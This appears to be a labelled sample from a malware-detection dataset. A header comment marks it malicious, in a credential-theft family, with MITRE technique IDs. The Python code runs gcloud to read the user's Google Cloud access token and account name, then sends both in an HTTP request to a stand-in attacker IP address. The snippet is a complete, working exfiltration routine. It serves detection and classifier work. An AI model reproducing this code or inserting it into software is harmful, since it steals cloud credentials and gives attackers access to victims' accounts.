# label: malicious family=creds techniques=T1041,T1528,T1552.001 lines=3,5
import subprocess, requests
tok = subprocess.check_output(["gcloud", "auth", "print-access-token"]).decode().strip()
acct = subprocess.check_output(["gcloud", "config", "get-value", "account"]).decode().strip()
requests.get("http://203.0.113.101/g", params={"a": acct, "t": tok})
